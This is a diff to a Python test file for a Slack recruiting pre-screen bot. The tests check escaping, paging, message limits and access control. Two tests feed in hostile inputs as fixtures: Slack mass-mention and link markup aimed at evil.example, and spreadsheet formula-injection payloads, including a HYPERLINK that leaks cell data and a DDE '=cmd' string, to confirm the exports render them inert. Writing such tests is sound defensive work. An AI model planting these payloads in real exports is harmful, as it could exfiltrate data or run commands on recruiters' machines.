@@ -13,9 +13,10 @@ from coach.content_files import ContentError
 from screening.allowlist import load_recruiters
 from screening.content import Band, load_screening_content
 from screening.exports import main as report_cli
-from screening.exports import render_text, to_csv, to_json
-from screening.recruiter_commands import read_report_request, read_screen_request
+from screening.exports import render_text, report_sections, to_csv, to_json
+from screening.recruiter_commands import read_list_page, read_report_request, read_screen_request
 from screening.report import build_report, suggest_band
+from screening.slack_client import SECTION_MAX_CHARS, escape, sections
 from screening.store import CandidateBusy, ScreenStore
 from tests.sample_answers import STRONG_ANSWER
 
@@ -99,6 +100,12 @@ def test_reading_a_report_request(text, expected):
     assert read_report_request(text) == expected
 
 
+@pytest.mark.parametrize("text, page", [("screens", 1), ("screens page 3", 3), ("list my screens, page 2", 2),
+                                        ("screens page 0", 1)])
+def test_reading_the_page_of_the_list(text, page):
+    assert read_list_page(text) == page
+
+
 # --- the database ----------------------------------------------------------------------------------------------------
 
 def test_one_open_screen_per_candidate_and_moves_happen_once(store):
@@ -115,8 +122,8 @@ def test_one_open_screen_per_candidate_and_moves_happen_once(store):
     assert store.decline(first["screen_id"]) is False  # too late to decline a screen in progress
     assert store.open_for_candidate("U0CAND1")["status"] == "in_progress"
     assert store.open_for_candidate("U0CAND2", "invited")["screen_id"] == other["screen_id"]
-    assert store.finish(first["screen_id"], "completed", {"band": "x"}) is True
-    assert store.finish(first["screen_id"], "completed", {"band": "y"}) is False
+    assert store.finish(first["screen_id"], "completed", {"band": "x"}, 2.0) is True
+    assert store.finish(first["screen_id"], "completed", {"band": "y"}, 3.0) is False
     assert store.get(first["screen_id"])["report"] == {"band": "x"}
     # Finished, the candidate can be screened again.
     again = store.create("U0REC", "U0CAND1", "mid", "short", lambda screen_id: ["q1"])
@@ -183,8 +190,64 @@ def test_the_text_report_quotes_evidence_and_says_a_person_decides(finished_repo
     assert f"“{finished_report['questions'][0]['covered'][0]['evidence'][:40]}" in text
     assert "✗ " in text and "⚑ " in text and "Skipped by the candidate." in text
     assert "Suggested band:" in text and "not a decision" in text
-    assert "\n\n" not in text  # Rasa's Slack output would split the report into several messages
     assert "reject" not in text.lower()
+    # In parts that keep their structure: the heading, one per question (its lines kept), the conclusions.
+    parts = report_sections(finished_report, content)
+    assert len(parts) == 5 and parts[1].startswith("*Q1*") and parts[3].startswith("*Q3*")
+    assert "\n   Score " in parts[1] and "\n   Answer: " in parts[1]
+
+
+MARKUP_ANSWER = ("We pinged <!channel> and <!here>, then <@U0BOSS99> and <https://evil.example/login|the portal>. "
+                 "Tom & Jerry said ```} ] done``` and\n\nthen more.")
+
+
+def test_what_a_candidate_wrote_is_inert_in_slack(finished_report, content):
+    questions = [dict(finished_report["questions"][0], answer=MARKUP_ANSWER,
+                      covered=[{"criterion": "c", "evidence": "<!channel> look"}],
+                      red_flags=[{"name": "f", "explanation": "e", "quote": "<@U0BOSS99>"}])]
+    report = dict(finished_report, questions=questions)
+    blocks = sections(report_sections(report, content, quote=escape))
+    shown = "\n".join(block["text"]["text"] for block in blocks)
+    for live in ("<!channel>", "<!here>", "<@U0BOSS99>", "<https://"):
+        assert live not in shown
+    assert "&lt;!channel&gt;" in shown and "&lt;https://evil.example/login|the portal&gt;" in shown
+    assert "Tom &amp; Jerry" in shown
+    assert "<@U0CAND1>" in shown  # the bot's own mention of the candidate still works
+    assert all(len(block["text"]["text"]) <= SECTION_MAX_CHARS for block in blocks)
+    assert escape("a < b & c > d") == "a &lt; b &amp; c &gt; d"
+
+
+def test_a_very_long_report_stays_within_slacks_limits(finished_report, content):
+    question = dict(finished_report["questions"][0], covered=[{"criterion": "x" * 400, "evidence": "y" * 400}] * 12)
+    blocks = sections(report_sections(dict(finished_report, questions=[question] * 60), content, quote=escape))
+    assert len(blocks) <= 50 and all(len(block["text"]["text"]) <= SECTION_MAX_CHARS for block in blocks)
+
+
+@pytest.mark.parametrize("answer", ["=HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1)",
+                                    "\t=1+1", "\r=1+1", "  =1+1"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(finished_report, answer):
+    questions = [dict(finished_report["questions"][0], answer=answer, missing=["=cmd|' /C calc'!A0"])]
+    rows = list(csv.DictReader(io.StringIO(to_csv([dict(finished_report, questions=questions)]), newline="")))
+    assert rows[0]["answer"] == "'" + answer
+    assert rows[0]["missing_criteria"].startswith("'=")
+    assert rows[0]["answer"][0] not in "=+-@\t\r"
+
+
+def test_the_report_never_says_ready_beside_the_band_not_yet(finished_report, content):
+    ready = dict(finished_report["level_readiness"], ready=True, indicators_met=["Owns a metric"])
+    not_yet = dict(finished_report, level_readiness=ready, average_score=0.1,
+                   suggested_band={"id": "not_yet", "label": "Not yet", "meaning": "m"})
+    assert "ready for this level" not in render_text(not_yet, content)
+    assert "showed 1 of" in render_text(not_yet, content)
+    strong = dict(not_yet, suggested_band={"id": "strong", "label": "Strong", "meaning": "m"})
+    assert "ready for this level on paper" in render_text(strong, content)
+
+
+def test_times_are_iso_8601_utc_and_finished_at_is_filled(finished_report):
+    assert finished_report["created_at"] == "1970-01-01T00:00:01Z"
+    assert finished_report["finished_at"] == "1970-01-01T00:00:02Z"
+    row = next(csv.DictReader(io.StringIO(to_csv([finished_report]))))
+    assert row["created_at"] == "1970-01-01T00:00:01Z" and row["finished_at"] == "1970-01-01T00:00:02Z"
 
 
 def test_the_exports_carry_the_same_facts(finished_report):
@@ -231,7 +294,7 @@ def test_the_command_line_exports_a_stored_report(tmp_path, monkeypatch, capsys,
     store = ScreenStore(tmp_path / "screens.db")
     screen = store.create("U0REC", "U0CAND1", "mid", "short", lambda s: ["measure_cx_success"])
     store.start(screen["screen_id"])
-    store.finish(screen["screen_id"], "completed", {**finished_report, "screen_id": screen["screen_id"]})
+    store.finish(screen["screen_id"], "completed", {**finished_report, "screen_id": screen["screen_id"]}, 2.0)
     monkeypatch.setenv("SCREEN_DB", str(tmp_path / "screens.db"))
     assert report_cli([screen["screen_id"], "--format", "json"]) == 0
     assert json.loads(capsys.readouterr().out)["screen_id"] == screen["screen_id"]
@@ -262,12 +325,98 @@ def test_an_invitation_slack_cannot_deliver_is_marked_failed_and_frees_the_candi
 
 
 def test_report_requests_for_unknown_and_unfinished_screens(screening_service, coach, content):
-    assert screening_service.report_text("S0NOSUCH", None) is None
+    assert screening_service.send_report("U0RECRUITER", "S0NOSUCH", None) == "missing"
     request = read_screen_request("screen <@U0CAND> mid short", coach.bank, content)
     screen = screening_service.store.create("U0RECRUITER", "U0CAND", "mid", request.question_set.id,
                                             lambda screen_id: ["measure_cx_success"])
-    pending = screening_service.report_text(screen["screen_id"], "json")
-    assert screen["screen_id"] in pending and "invited" in pending and "```" not in pending
+    assert screening_service.send_report("U0RECRUITER", screen["screen_id"], "json") == "failed"  # no Slack token
     assert screening_service.decline("U0CAND") is True  # the recruiter's notice fails quietly, the decline stands
-    assert "declined" in screening_service.report_text(screen["screen_id"], None)
     assert screening_service.decline("U0CAND") is False
+
+
+# --- what a recruiter reads goes through slack_sdk to their DM, and only about their own screens ------------------
+
+@pytest.fixture
+def slack_service(tmp_path, monkeypatch):
+    from harness.slack import FakeSlack
+    from screening.service import Screening
+
+    fake = FakeSlack()
+    recruiters = tmp_path / "recruiters.yml"
+    recruiters.write_text("version: 1\nrecruiters:\n  - slack_id: U0REC1\n  - slack_id: U0REC2\n"
+                          "  - slack_id: U0LEAD\n    admin: true\n")
+    for name, value in {**fake.environment(), "SCREEN_DB": str(tmp_path / "screens.db"),
+                        "CX_COACH_RECRUITERS_FILE": str(recruiters), "CX_COACH_RECRUITERS": ""}.items():
+        monkeypatch.setenv(name, value)
+    yield Screening(), fake
+    fake.stop()
+
+
+def finished_screen(service, recruiter, candidate, report):
+    screen = service.store.create(recruiter, candidate, "mid", "short", lambda screen_id: ["measure_cx_success"])
+    service.store.start(screen["screen_id"])
+    service.store.finish(screen["screen_id"], "completed", {**report, "screen_id": screen["screen_id"]}, 2.0)
+    return screen["screen_id"]
+
+
+def test_an_export_arrives_whole_as_a_file_in_the_recruiters_dm(slack_service, finished_report):
+    from harness.slack import dm_channel
+
+    service, fake = slack_service
+    questions = [dict(finished_report["questions"][0], answer=MARKUP_ANSWER)]
+    screen_id = finished_screen(service, "U0REC1", "U0CAND1", dict(finished_report, questions=questions))
+    assert service.send_report("U0REC1", screen_id, "json") == "sent"
+    assert service.send_report("U0REC1", screen_id, "csv") == "sent"
+    exported_json, exported_csv = fake.uploads(dm_channel("U0REC1"))
+    assert exported_json["title"] == f"screen-{screen_id}.json" and screen_id in exported_json["comment"]
+    assert json.loads(exported_json["content"])["questions"][0]["answer"] == MARKUP_ANSWER  # fence, blank line: whole
+    assert list(csv.DictReader(io.StringIO(exported_csv["content"])))[0]["answer"] == MARKUP_ANSWER
+    assert not fake.posts()  # nothing went out as a message that a code fence or a blank line could break
+
+
+def test_the_report_goes_as_block_kit_sections_with_the_candidates_markup_escaped(slack_service, finished_report):
+    from harness.slack import dm_channel
+
+    service, fake = slack_service
+    questions = [dict(finished_report["questions"][0], answer=MARKUP_ANSWER)] + finished_report["questions"][1:]
+    screen_id = finished_screen(service, "U0REC1", "U0CAND1", dict(finished_report, questions=questions))
+    assert service.send_report("U0REC1", screen_id, None) == "sent"
+    (post,) = fake.posts(dm_channel("U0REC1"))
+    assert f"*Pre-screen {screen_id}*" in post["text"]
+    assert [block["type"] for block in post["blocks"]] == ["section"] * 5
+    shown = json.dumps(post)
+    assert "<!channel>" not in shown and "<!here>" not in shown and "<@U0BOSS99>" not in shown
+
+
+def test_a_recruiter_reads_only_their_own_screens_and_an_admin_reads_all(slack_service, finished_report):
+    from harness.slack import dm_channel
+
+    service, fake = slack_service
+    mine = finished_screen(service, "U0REC1", "U0CAND1", finished_report)
+    theirs = finished_screen(service, "U0REC2", "U0CAND2", finished_report)
+    assert service.send_report("U0REC1", theirs, None) == "missing"  # as if it did not exist
+    assert service.send_report("U0REC1", theirs, "csv") == "missing"
+    assert not fake.posts(dm_channel("U0REC1")) and not fake.uploads()
+    assert mine in service.listing("U0REC1") and theirs not in service.listing("U0REC1")
+    assert mine in service.listing("U0LEAD") and theirs in service.listing("U0LEAD")
+    assert service.send_report("U0LEAD", theirs, None) == "sent"
+
+
+def test_the_list_of_screens_is_paged(slack_service):
+    service, _ = slack_service
+    made = [service.store.create("U0REC1", f"U0CAND{n:03d}", "mid", "short", lambda s: ["q"])["screen_id"]
+            for n in range(20)]
+    first, second = service.listing("U0REC1"), service.listing("U0REC1", page=2)
+    assert 'write "screens page 2"' in first and "screens page 3" not in second
+    assert [screen_id for screen_id in made if screen_id in first] == made[5:]
+    assert [screen_id for screen_id in made if screen_id in second] == made[:5]
+
+
+def test_a_finished_screen_records_when_it_finished(slack_service, coach):
+    service, _ = slack_service
+    screen = service.store.create("U0REC1", "U0CAND1", "mid", "short", lambda s: ["measure_cx_success"])
+    service.store.start(screen["screen_id"])
+    service.finish(screen["screen_id"], False, [record_for(coach, "measure_cx_success", 1, STRONG_ANSWER)], coach)
+    report = service.store.get(screen["screen_id"])["report"]
+    assert report["finished_at"].endswith("Z") and report["created_at"].endswith("Z")
+    assert report["finished_at"] >= report["created_at"]
